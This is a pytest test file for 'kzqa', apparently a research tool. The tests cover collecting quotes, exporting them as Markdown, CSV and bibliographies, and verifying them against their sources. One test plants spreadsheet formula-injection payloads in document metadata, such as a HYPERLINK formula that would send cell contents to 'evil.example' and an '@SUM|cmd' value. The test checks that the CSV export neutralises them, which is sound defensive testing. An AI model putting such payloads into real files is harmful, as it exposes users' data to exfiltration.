"""A researcher's evidence: quotes gathered across questions (``kzqa ask --collect``),
exported as Markdown, CSV and a bibliography, and re-checked against the index and the
source files (``kzqa verify``), which names any quote altered by even one character."""

from __future__ import annotations

import csv
import io
import json

import pytest

import kzqa
from conftest import FAKE_SETTINGS, FakeEmbedder, write
from kzqa.cli.main import main
from kzqa.evidence import collection

PROTEST_Q = "permits for public demonstrations are rarely granted"
ELECTIONS_Q = "elections widely criticised by international observers"
# A paragraph laid out as a PDF's would be: line breaks and a run of spaces inside it.
LAID_OUT = ("The  commission reported that detainees\nwere held without charge\n"
            "for up to  thirty days in 2023.")


@pytest.fixture
def library(corpus_copy, tmp_path):
    """The shipped corpus plus a document whose paragraph keeps layout line breaks."""
    write(corpus_copy / "commission-report.txt", f"Detention report\n\n{LAID_OUT}\n")
    write(corpus_copy / "commission-report.meta.yaml",
          "title: Detention report\npublisher: Example Commission\ndate: 2024-02-01\n"
          "url: https://example.org/detention-report\naccessed: 2026-11-20\n")
    index = tmp_path / "index"
    kzqa.build(corpus_copy, index, FAKE_SETTINGS, embedder=FakeEmbedder())
    return corpus_copy, index


def run(capsys, *argv):
    code = main([str(a) for a in argv])
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def notes(library, tmp_path, capsys):
    """A collection gathered over three questions with kzqa ask --collect."""
    _, index = library
    path = tmp_path / "notes.jsonl"
    for question in (PROTEST_Q, ELECTIONS_Q, "detainees held without charge for thirty days"):
        code, _, err = run(capsys, "ask", "--index", index, "-k", "2", "--collect", path, question)
        assert code == 0 and f"into {path}" in err
    return path


def _texts(index):
    qa = kzqa.load(index, embedder=FakeEmbedder())
    return {p.id: p.text for p in qa.passages}


def test_ask_collect_gathers_every_passage_with_its_question(notes, library):
    items = collection.read(notes)
    assert len(items) == 6
    assert [i.question for i in items].count(PROTEST_Q) == 2
    texts = _texts(library[1])
    assert all(item.hit.text == texts[item.hit.id] for item in items)  # verbatim, as indexed
    assert any(item.hit.text == LAID_OUT for item in items)


def test_an_abstention_collects_nothing_and_says_so(library, tmp_path, capsys):
    path = tmp_path / "notes.jsonl"
    code, _, err = run(capsys, "ask", "--index", library[1], "--collect", path, "zorblat quux")
    assert code == 0 and "Nothing collected" in err and not path.exists()


def test_markdown_export_groups_verbatim_quotes_by_question(notes, library, tmp_path, capsys):
    out = tmp_path / "evidence.md"
    code, _, err = run(capsys, "export", notes, "--format", "markdown", "--style", "coi", "-o", out)
    assert code == 0 and "Wrote 6 quotes as markdown (coi citations)" in err
    text = out.read_text(encoding="utf-8")
    assert text.count(f"## {PROTEST_Q}\n") == 1 and text.count("## ") == 3
    quotes = collection.read_quotes(out)
    texts = set(_texts(library[1]).values())
    assert len(quotes) == 6 and all(q.text in texts for q in quotes)
    assert any(q.text == LAID_OUT for q in quotes)  # line breaks and space runs kept
    assert "— Example Commission: Detention report, 1 February 2024, ¶ 1, " \
           "https://example.org/detention-report [accessed 20 November 2026]" in text


def test_csv_export_has_one_row_per_quote_with_every_field(notes, tmp_path, capsys):
    code, out, _ = run(capsys, "export", notes, "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert len(rows) == 6
    laid_out = next(r for r in rows if r["doc_id"] == "commission-report")
    assert laid_out["quote"] == LAID_OUT and laid_out["url"] == "https://example.org/detention-report"
    assert laid_out["accessed"] == "2026-11-20" and laid_out["publisher"] == "Example Commission"
    assert int(laid_out["end"]) - int(laid_out["start"]) == len(LAID_OUT)


@pytest.mark.parametrize("style, entry", [
    ("plain", "“Detention report”, Example Commission, 2024-02-01. https://example.org/detention-report\n"),
    ("coi", "Example Commission: Detention report, 1 February 2024, https://example.org/detention-report "
            "[accessed 20 November 2026]\n"),
    ("csl-json", None),
])
def test_bibliography_lists_each_document_once_in_the_style_asked(notes, capsys, style, entry):
    documents = {item.hit.doc_id for item in collection.read(notes)}
    code, out, _ = run(capsys, "export", notes, "--format", "bibliography", "--style", style)
    assert code == 0
    if entry is None:
        items = json.loads(out)
        assert sorted(i["id"] for i in items) == sorted(documents)
        [report] = [i for i in items if i["id"] == "commission-report"]
        assert report == {"id": "commission-report", "type": "webpage", "title": "Detention report",
                          "publisher": "Example Commission", "issued": {"date-parts": [[2024, 2, 1]]},
                          "URL": "https://example.org/detention-report",
                          "accessed": {"date-parts": [[2026, 11, 20]]}}
    else:
        assert out.count("\n") == len(documents) and entry in out and "n.d.." not in out


@pytest.mark.parametrize("fmt, suffix", [("markdown", ".md"), ("csv", ".csv"), (None, ".jsonl")])
def test_verify_passes_an_untouched_export_and_names_a_one_character_change(
        notes, library, tmp_path, capsys, fmt, suffix):
    path = notes
    if fmt:
        path = tmp_path / f"evidence{suffix}"
        assert run(capsys, "export", notes, "--format", fmt, "-o", path)[0] == 0
    code, out, err = run(capsys, "verify", path, "--index", library[1])
    assert code == 0 and out == "" and "All 6 quotes" in err and "match their sources" in err
    text = path.read_text(encoding="utf-8")
    altered = text.replace("were held without charge", "were held without charges", 1)
    assert altered != text
    path.write_text(altered, encoding="utf-8")
    code, out, err = run(capsys, "verify", path, "--index", library[1])
    assert code == 1 and "1 of 6 quotes in" in err and "no longer matches its source" in err
    [line] = out.splitlines()
    assert line.startswith("MISMATCH quote ") and "commission-report" in line
    # where it differs, with both sides shown around it
    assert "at character 65: the export has 'out charges\\nfor up to ', the source 'out charge\\nfor up to  '" in line


def test_verify_reads_an_export_saved_with_windows_line_ends(notes, library, tmp_path, capsys):
    md = tmp_path / "evidence.md"
    run(capsys, "export", notes, "-o", md)
    md.write_bytes(md.read_bytes().replace(b"\n", b"\r\n"))
    mismatches, checked = kzqa.verify_export(md, library[1])
    # Windows line ends in the file are not the source's line breaks: the laid-out
    # paragraph is read back with "\n" (the export's own line ends) and matches.
    assert checked == 6 and mismatches == []


def test_verify_names_a_quote_whose_source_changed_since(notes, library, capsys):
    corpus, index = library
    doc = corpus / "commission-report.txt"
    doc.write_text(doc.read_text(encoding="utf-8").replace("thirty", "forty"), encoding="utf-8")
    kzqa.build(corpus, index, FAKE_SETTINGS, embedder=FakeEmbedder())
    changed = [i for i in collection.read(notes) if i.hit.doc_id == "commission-report"]
    mismatches, checked = kzqa.verify_export(notes, index)
    assert checked == 6 and len(mismatches) == len(changed) >= 1
    assert all("commission-report" in str(m) and "'or up to  forty days i'" in str(m) for m in mismatches)


@pytest.mark.parametrize("content, message", [
    ("not json\n", "line 1: not a kzqa collection entry"),
    ('{"question": "q"}\n', "line 1: not a kzqa collection entry"),
])
def test_a_file_that_is_not_a_collection_gets_one_clear_line(library, tmp_path, capsys, content, message):
    path = write(tmp_path / "notes.jsonl", content)
    code, _, err = run(capsys, "export", path)
    assert code == 2 and message in err and "Traceback" not in err and len(err.strip().splitlines()) == 1
    code, _, err = run(capsys, "verify", path, "--index", library[1])
    assert code == 2 and message in err


def test_verify_refuses_a_file_it_cannot_check(library, tmp_path, capsys):
    path = write(tmp_path / "notes.docx", "x")
    code, _, err = run(capsys, "verify", path, "--index", library[1])
    assert code == 2 and "checks a collection (.jsonl) or an export (.md, .csv)" in err
    code, _, err = run(capsys, "verify", tmp_path / "missing.md", "--index", library[1])
    assert code == 2 and "no such file" in err
    code, _, err = run(capsys, "verify", write(tmp_path / "notes.md", "# My notes\n\n> a quote\n"),
                       "--index", library[1])
    assert code == 2 and "no quotes to check" in err  # never "All 0 quotes match"


def test_export_from_the_index_takes_passages_by_id_and_refuses_unknown_ids(library):
    qa = kzqa.load(library[1], embedder=FakeEmbedder())
    passage = next(p for p in qa.passages if p.doc_id == "commission-report")
    [item] = collection.from_index(qa.documents, qa.passage, [("q", passage.id)])
    assert item.hit.text == LAID_OUT and item.hit.title == "Detention report"
    with pytest.raises(kzqa.KzqaError, match="no passage 'nope#1' in the index"):
        collection.from_index(qa.documents, qa.passage, [("q", "nope#1")])


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text_and_still_verify(
        corpus_copy, tmp_path, capsys):
    write(corpus_copy / "hostile.txt",
          "Hostile report\n\n-1 protesters were counted by the police, who said = was the total; detention followed.\n")
    write(corpus_copy / "hostile.meta.yaml",
          "title: '=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"click\")'\nauthor: '@SUM(1+1)|cmd'\n"
          "publisher: '+Evil Press'\n")
    index = tmp_path / "index"
    kzqa.build(corpus_copy, index, FAKE_SETTINGS, embedder=FakeEmbedder())
    notes = tmp_path / "notes.jsonl"
    code, _, err = run(capsys, "ask", "--index", index, "-k", "1", "--collect", notes,
                       "protesters counted by the police detention followed")
    assert code == 0, err
    export = tmp_path / "evidence.csv"
    code, _, err = run(capsys, "export", notes, "--format", "csv", "-o", export)
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(export.read_text(encoding="utf-8"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    header, row = rows[0], rows[1]
    assert row[header.index("title")].startswith("'=HYPERLINK(")
    assert row[header.index("quote")] == "'-1 protesters were counted by the police, who said = was the total; " \
                                         "detention followed."
    code, out, err = run(capsys, "verify", export, "--index", index)
    assert code == 0 and "MISMATCH" not in out, out + err  # the quote checked is the one written
